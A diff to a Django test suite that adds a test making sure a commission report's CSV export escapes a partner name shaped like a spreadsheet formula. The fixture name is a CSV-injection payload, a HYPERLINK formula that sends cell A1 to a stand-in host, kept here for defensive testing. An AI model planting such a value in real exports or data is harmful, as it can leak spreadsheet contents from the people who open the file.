@@ -411,3 +411,15 @@ def test_without_a_flat_fee_the_rate_applies(django_capture_on_commit_callbacks)
     assert commission.rate == Decimal("0.0500")
     assert commission.amount == Decimal("1000.00")
     assert AuditEvent.objects.get(action="commission.recorded").data["flat_fee"] is None
+
+
+def test_a_firm_named_like_a_formula_exports_as_text(operator_client):
+    """CSV injection: the operator's spreadsheet must show the name, not run it."""
+    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    _issued_commission(PartnerFactory(name=name))
+
+    exported = operator_client.get(REPORT, {"format": "csv"})
+
+    lines = list(csv.reader(io.StringIO(exported.content.decode())))
+    assert lines[1][1] == "'" + name
+    assert not any(value.startswith("=") for line in lines for value in line)
